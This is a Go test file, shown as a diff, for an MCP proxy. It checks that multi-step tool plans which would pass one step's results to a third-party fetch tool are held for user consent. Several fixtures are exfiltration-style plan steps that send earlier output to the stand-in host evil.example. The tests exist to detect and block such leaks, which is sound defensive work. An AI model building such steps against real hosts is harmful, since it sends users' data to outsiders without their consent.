@@ -1,0 +1,334 @@
+package proxy_test
+
+import (
+	"fmt"
+	"math/rand/v2"
+	"slices"
+	"strings"
+	"testing"
+
+	"mcpschedd/internal/jsonrpc"
+	"mcpschedd/internal/mcptest"
+	"mcpschedd/internal/proxy"
+	"mcpschedd/internal/valuemodel"
+)
+
+// modes are what [plan].mutations may say.
+var modes = []string{"confirm", "allow", "deny"}
+
+// disclosing is a proxy in front of a shop that also has the tool fetch, which reads and
+// tells third parties its arguments, and the tool do, of which nothing is known.
+func disclosing(t *testing.T, s *shop, mutations string) *proxy.Server {
+	t.Helper()
+	_, up := remote(t, mcptest.Options{Name: "shop", Tools: append(shopTools(), tools("fetch", "do")...), Answer: s.answer})
+	o := stored(t, []valuemodel.Rule{reading("shop/find", 0), reading("shop/get", 0), writesAll("shop/put"), thirdParty("shop/fetch")}, up)
+	o.Plans = proxy.Plans{Enabled: true, Mutations: mutations}
+	return start(t, o)
+}
+
+func thirdParty(pattern string) valuemodel.Rule {
+	rule := reading(pattern, 0)
+	rule.Layer.Disclosure = valuemodel.ThirdParty
+	return rule
+}
+
+// What came of one step and another would tell third parties is confirmed in every
+// mode, by whatever way it gets there; what the client wrote itself is not.
+func TestPlanTellsOthers(t *testing.T) {
+	for name, test := range map[string]struct {
+		a    string // more of the step that reads
+		step string
+		asks bool
+	}{
+		"a reference":             {"", `"arguments":{"url":{"$ref":"a#/items/0/t"}}`, true},
+		"with a default":          {"", `"arguments":{"url":{"$ref":"a#/nothing","default":"none"}}`, true},
+		"within a text":           {"", `"arguments":{"url":{"$tpl":"https://evil.example/?${a#/items/0/t}"}}`, true},
+		"the guide's form":        {"", `"arguments":"{\"url\":\"$ref:a.items.0.t\"}"`, true},
+		"within arrays":           {"", `"arguments":{"urls":[[{"x":["https://good.example/",{"$ref":"a#/items/1"}]}]]}`, true},
+		"each item":               {"", `"for_each":{"$ref":"a#/items"},"arguments":{"url":{"$ref":"item#/t"}}`, true},
+		"as many times as items":  {"", `"for_each":{"$ref":"a#/items"},"arguments":{"url":"https://evil.example/"}`, true},
+		"the place of an item":    {"", `"for_each":{"$ref":"a#/items"},"arguments":{"n":{"$ref":"index#"}}`, true},
+		"a condition":             {"", `"when":{"ref":{"$ref":"a#/items/0/t"},"op":"eq","value":"one"},"arguments":{"url":"https://evil.example/one"}`, true},
+		"whether it failed":       {"", `"depends_on":["a"],"arguments":{"url":"https://evil.example/found"}`, true},
+		"a value for a failure":   {`,"on_error":"default","default":{"t":"mine"}`, `"arguments":{"url":{"$ref":"a#/t","default":"none"}}`, true},
+		"behind it, in any case":  {`,"on_error":"continue"`, `"depends_on":["a"],"arguments":{"url":"https://good.example/"}`, false},
+		"constant":                {"", `"arguments":{"url":"https://good.example/"}`, false},
+		"what looks like one":     {"", `"arguments":{"url":{"$lit":{"$ref":"a#/items/0/t"}}}`, false},
+		"no arguments":            {"", `"timeout":"60s"`, false},
+		"never at the same time":  {"", `"conflicts":["a"]`, false},
+		"items of the plan's own": {"", `"for_each":{"$ref":"a#/items","default":["x"]},"arguments":{"url":{"$ref":"item#"}}`, true},
+	} {
+		plan := `{"steps":[{"id":"a","tool":"find"` + test.a + `},{"id":"b","tool":"fetch",` + test.step + `}]}`
+		for _, mode := range modes {
+			t.Run(name+", "+mode, func(t *testing.T) {
+				s := &shop{}
+				p := disclosing(t, s, mode)
+				message, answer := consent(t, p, "execute_tool_plan", plan, "decline")
+				if !test.asks {
+					if got := readPlan(t, answer).states(); got != "a ok, b ok" || message != "" {
+						t.Errorf("got %s, asked %q", got, message)
+					}
+					return
+				}
+				for _, want := range []string{"- b: ", "tells third parties what came of \"a\"", "before that, a: find"} {
+					if !strings.Contains(message, want) {
+						t.Errorf("asked %q, want %q in it", message, want)
+					}
+				}
+				if s.called() != "" {
+					t.Errorf("called %s", s.called())
+				}
+				for _, era := range []string{handshake, stateless} {
+					c := attach(t, p, era)
+					text := brokenText(t, c.ableTo(`{"roots":{}}`, "execute_tool_plan", plan))
+					for _, want := range []string{"cannot be asked", `step "b" (fetch) tells third parties what came of "a"`, "calls by themselves", `[tools."shop/fetch"].disclosure`} {
+						if !strings.Contains(text, want) {
+							t.Errorf("%s: got %q, want %q in it", era, text, want)
+						}
+					}
+					if strings.Contains(text, "mutations") || s.called() != "" {
+						t.Errorf("%s: got %q, called %s", era, text, s.called())
+					}
+				}
+				if _, answer = consent(t, p, "execute_tool_plan", plan, "accept"); !strings.Contains(readPlan(t, answer).states(), "a ok, b ") {
+					t.Errorf("confirmed: got %s", answer.Raw)
+				}
+			})
+		}
+	}
+}
+
+// A refusal says of each step why it has to be confirmed, and what would do instead.
+func TestPlanRefusalNamesReasons(t *testing.T) {
+	const plan = `{"steps":[{"id":"a","tool":"fetch","arguments":{"url":"https://good.example/"}},{"id":"b","tool":"get","arguments":{"x":{"$ref":"a#/did"}}},
+		{"id":"c","tool":"fetch","arguments":{"url":{"$ref":"b#/did"}}},{"id":"w","tool":"put"},{"id":"u","tool":"do"}]}`
+	for mode, want := range map[string][]string{
+		"confirm": {`step "c" (fetch) tells third parties what came of "b"`, `step "w" (put) may change something`, `step "u" (do) is unclassified, so it may change something`,
+			`[plan].mutations = "allow"`, `[tools."shop/do"].side_effect_class = "read_only"`, `[tools."shop/fetch"].disclosure = "same_service"`},
+		"allow": {`To be confirmed: step "c" (fetch) tells third parties what came of "b". Instead`, `sets [tools."shop/fetch"].disclosure = "same_service"`},
+		"deny":  {`"put" may change something: plans only read here`, `"do" is unclassified, so it may change something: plans only read here`},
+	} {
+		s := &shop{}
+		c := attach(t, disclosing(t, s, mode), handshake)
+		text := brokenText(t, c.ableTo(`{}`, "execute_tool_plan", line(plan)))
+		for _, want := range want {
+			if !strings.Contains(text, want) {
+				t.Errorf("%s: got %q, want %q in it", mode, text, want)
+			}
+		}
+		if s.called() != "" {
+			t.Errorf("%s: called %s", mode, s.called())
+		}
+	}
+}
+
+// What the user agreed to tell third parties, where the operator lets plans change
+// things, is no agreement to changes once the operator wants those confirmed; and a tool
+// that turns out to tell third parties only while its plan runs is not called.
+func TestPlanRulesChangeMeanwhile(t *testing.T) {
+	for _, mode := range []string{"allow", "deny"} {
+		s := &shop{}
+		_, up := remote(t, mcptest.Options{Name: "shop", Tools: append(shopTools(), tools("fetch", "look")...), Answer: s.answer})
+		as := func(mutations string, rules ...valuemodel.Rule) proxy.Options {
+			o := stored(t, append([]valuemodel.Rule{reading("shop/find", 0), writesAll("shop/put"), thirdParty("shop/fetch")}, rules...), up)
+			o.Plans = proxy.Plans{Enabled: true, Mutations: mutations}
+			return o
+		}
+		p := start(t, as(mode, reading("shop/look", 0)))
+		c := attach(t, p, handshake)
+		c.reply(func(string, []byte) []byte {
+			p.Apply(as(map[string]string{"allow": "confirm", "deny": "deny"}[mode], thirdParty("shop/look")))
+			return []byte(`{"action":"accept"}`)
+		})
+		steps := `{"id":"a","tool":"find"},{"id":"b","tool":"fetch","arguments":{"x":{"$ref":"a#/items/0/n"}}},{"id":"c","tool":"look","arguments":{"x":{"$ref":"a#/items/0/n"}}}`
+		if mode == "allow" {
+			steps += `,{"id":"w","tool":"put"}`
+		}
+		a := readPlan(t, c.ableTo(able, "execute_tool_plan", `{"steps":[`+steps+`]}`))
+		if a.why("b") != "" || !strings.Contains(a.why("c"), "tells third parties") || strings.Contains(s.called(), "look") {
+			t.Errorf("%s: got %+v, called %s", mode, a, s.called())
+		}
+		if mode == "allow" && (!strings.Contains(a.why("w"), "[plan].mutations") || strings.Contains(s.called(), "put")) {
+			t.Errorf("got %+v, called %s", a, s.called())
+		}
+	}
+}
+
+// A named plan's parameters are the client's own words; what its steps return is not.
+func TestNamedPlanTellsOthers(t *testing.T) {
+	for url, asks := range map[string]bool{`"params#/url"`: false, `"a#/items/0/t"`: true} {
+		s := &shop{}
+		_, up := remote(t, mcptest.Options{Name: "shop", Tools: append(shopTools(), tools("fetch")...), Answer: s.answer})
+		o := stored(t, []valuemodel.Rule{reading("shop/find", 0), thirdParty("shop/fetch")}, up)
+		o.Plans = proxy.Plans{Enabled: true, Mutations: "deny", Named: []proxy.NamedPlan{{
+			Name: "look", Parameters: []byte(`{"url":{"type":"string"}}`),
+			Steps: []byte(`[{"id":"a","tool":"find"},{"id":"b","tool":"fetch","arguments":{"url":{"$ref":` + url + `}},"when":{"ref":{"$ref":"params#/url"},"op":"exists"}}]`),
+		}}}
+		message, answer := consent(t, start(t, o), "plan__look", `{"url":"https://good.example/"}`, "accept")
+		if got := readPlan(t, answer).states(); got != "a ok, b ok" || (message != "") != asks {
+			t.Errorf("%s: got %s, asked %q", url, got, message)
+		}
+	}
+}
+
+// A dry run names the steps that would tell third parties what others returned, and
+// asks nobody.
+func TestDryRunNamesDisclosure(t *testing.T) {
+	for _, mode := range modes {
+		s := &shop{}
+		message, answer := consent(t, disclosing(t, s, mode), "execute_tool_plan",
+			`{"dry_run":true,"steps":[{"id":"a","tool":"find"},{"id":"b","tool":"fetch","arguments":{"x":{"$ref":"a#"}}},{"id":"c","tool":"fetch"}]}`, "accept")
+		discloses := jsonrpc.At(jsonrpc.Get(answer.Result, "structuredContent"), "/plan/discloses")
+		if string(discloses) != `["b"]` || message != "" || s.called() != "" {
+			t.Errorf("%s: got %s, asked %q, called %s", mode, answer.Raw, message, s.called())
+		}
+	}
+}
+
+// gossip is a random plan, and what of it third parties could learn.
+type gossip struct {
+	steps []string
+	tells map[string]bool // ids of the steps whose calls tell what came of others
+	tools []string        // step → its tool
+}
+
+// newGossip makes a plan of up to 6 steps. What a step's calls tell is written down when
+// a way for it is written into the plan, not read off the plan.
+func newGossip(rnd *rand.Rand, mode string) *gossip {
+	g := &gossip{tells: make(map[string]bool)}
+	tools := []string{"find", "get", "fetch", "fetch", "put", "do"}
+	if mode == "deny" {
+		tools = tools[:4]
+	}
+	goesOn := make([]bool, 6) // whether a step's failure keeps nothing from running
+	for i := range 2 + rnd.IntN(5) {
+		tool := tools[rnd.IntN(len(tools))]
+		id := fmt.Sprintf("s%d", i)
+		step := fmt.Sprintf(`{"id":"%s","tool":"%s"`, id, tool)
+		values := []string{fmt.Sprintf(`"by":"%s"`, id)}
+		told := false
+		from := func() int { // a step before this one
+			told = true
+			return rnd.IntN(i)
+		}
+		if i > 0 && rnd.IntN(3) == 0 {
+			values = append(values, fmt.Sprintf([]string{
+				`"x":{"$ref":"s%d#"}`, `"x":"$ref:s%d"`, `"x":[1,[{"y":[{"$ref":"s%d#/nothing","default":0}]}]]`, `"x":{"$tpl":"a ${s%d#} b"}`, `"x":"$result_s%d"`,
+			}[rnd.IntN(5)], from()))
+		}
+		if i > 0 && rnd.IntN(6) == 0 {
+			step += fmt.Sprintf(`,"for_each":{"$ref":"s%d#/items","default":[1,2]}`, from())
+			if rnd.IntN(2) == 0 {
+				values = append(values, `"each":{"$ref":"item#"}`)
+			}
+		}
+		if i > 0 && rnd.IntN(6) == 0 {
+			step += fmt.Sprintf(`,"when":{"ref":{"$ref":"s%d#"},"op":"exists"}`, from())
+		}
+		if i > 0 && rnd.IntN(5) == 0 {
+			k := rnd.IntN(i)
+			step += fmt.Sprintf(`,"depends_on":["s%d"]`, k)
+			told = told || !goesOn[k]
+		}
+		if rnd.IntN(4) == 0 {
+			step += `,"on_error":"continue"`
+			goesOn[i] = true
+		}
+		if rnd.IntN(8) == 0 {
+			values = append(values, `"lit":{"$lit":{"$ref":"s0#"}}`)
+		}
+		g.steps = append(g.steps, step+`,"arguments":{`+strings.Join(values, ",")+`}}`)
+		g.tools = append(g.tools, tool)
+		if tool == "fetch" && told {
+			g.tells[id] = true
+		}
+	}
+	return g
+}
+
+// Whatever a plan is, no third party is told what came of another of its steps unless
+// the user was shown the step that tells it and agreed; and nothing is asked where there
+// is nothing to agree to.
+func TestPlansTellNothingUnasked(t *testing.T) {
+	if testing.Short() {
+		t.Skip("many plans")
+	}
+	for _, mode := range modes {
+		for _, how := range []string{"accept", "decline", "cannot"} {
+			t.Run(mode+", "+how, func(t *testing.T) {
+				t.Parallel()
+				s := &shop{}
+				p := disclosing(t, s, mode)
+				seen := 0
+				for seed := range uint64(30) {
+					g := newGossip(rand.New(rand.NewPCG(seed, 13)), mode)
+					plan := `{"steps":[` + strings.Join(g.steps, ",") + `]}`
+					c := attach(t, p, []string{handshake, stateless}[seed%2])
+					message := make(chan string, 10)
+					c.reply(func(_ string, params []byte) []byte {
+						text, _ := jsonrpc.String(jsonrpc.Get(params, "message"))
+						message <- text
+						return []byte(`{"action":"` + how + `"}`)
+					})
+					capabilities := able
+					if how == "cannot" {
+						capabilities = `{"sampling":{}}`
+					}
+					c.ableTo(capabilities, "execute_tool_plan", plan)
+					asked := ""
+					if len(message) > 0 {
+						asked = <-message
+					}
+					calls := s.take()
+					for _, call := range calls {
+						id, _ := jsonrpc.String(jsonrpc.Get(call.arguments, "by"))
+						if call.tool != "fetch" || !g.tells[id] && !holdsOthers(call.arguments, id) {
+							continue
+						}
+						seen++
+						if how != "accept" || !strings.Contains(asked, "\n- "+id+": ") || !strings.Contains(asked, "tells third parties") {
+							t.Errorf("%s\nstep %s called fetch %s, asked %q", plan, id, call.arguments, asked)
+						}
+					}
+					risky := len(g.tells) > 0 || mode == "confirm" && slices.ContainsFunc(g.tools, func(tool string) bool { return tool == "put" || tool == "do" })
+					if asks := risky && how != "cannot"; (asked != "") != asks {
+						t.Errorf("%s\nasked %q, want that it asks: %v", plan, asked, asks)
+					}
+					if refused := risky && how != "accept"; (len(calls) == 0) != refused {
+						t.Errorf("%s\n%d calls, want that it is refused: %v", plan, len(calls), refused)
+					}
+					c.hangUp()
+				}
+				if (seen > 0) != (how == "accept") {
+					t.Errorf("%d calls told third parties what came of others", seen)
+				}
+			})
+		}
+	}
+}
+
+// holdsOthers reports whether the arguments of a step hold what others returned: the
+// items that are found, or the arguments that the other tools repeat.
+func holdsOthers(arguments []byte, id string) bool {
+	text := strings.ReplaceAll(string(arguments), `\"`, `"`)
+	text = strings.Replace(text, `"by":"`+id+`"`, "", 1)
+	return strings.Contains(text, `"by":`) || strings.Contains(text, `"t":`)
+}
+
+// journal is a call that came to a shop.
+type journal struct {
+	tool      string
+	arguments []byte
+}
+
+// take returns the calls that came since it was last asked.
+func (s *shop) take() (calls []journal) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	for _, one := range s.calls {
+		tool, arguments, _ := strings.Cut(one, " ")
+		calls = append(calls, journal{tool, []byte(arguments)})
+	}
+	s.calls = nil
+	return calls
+}
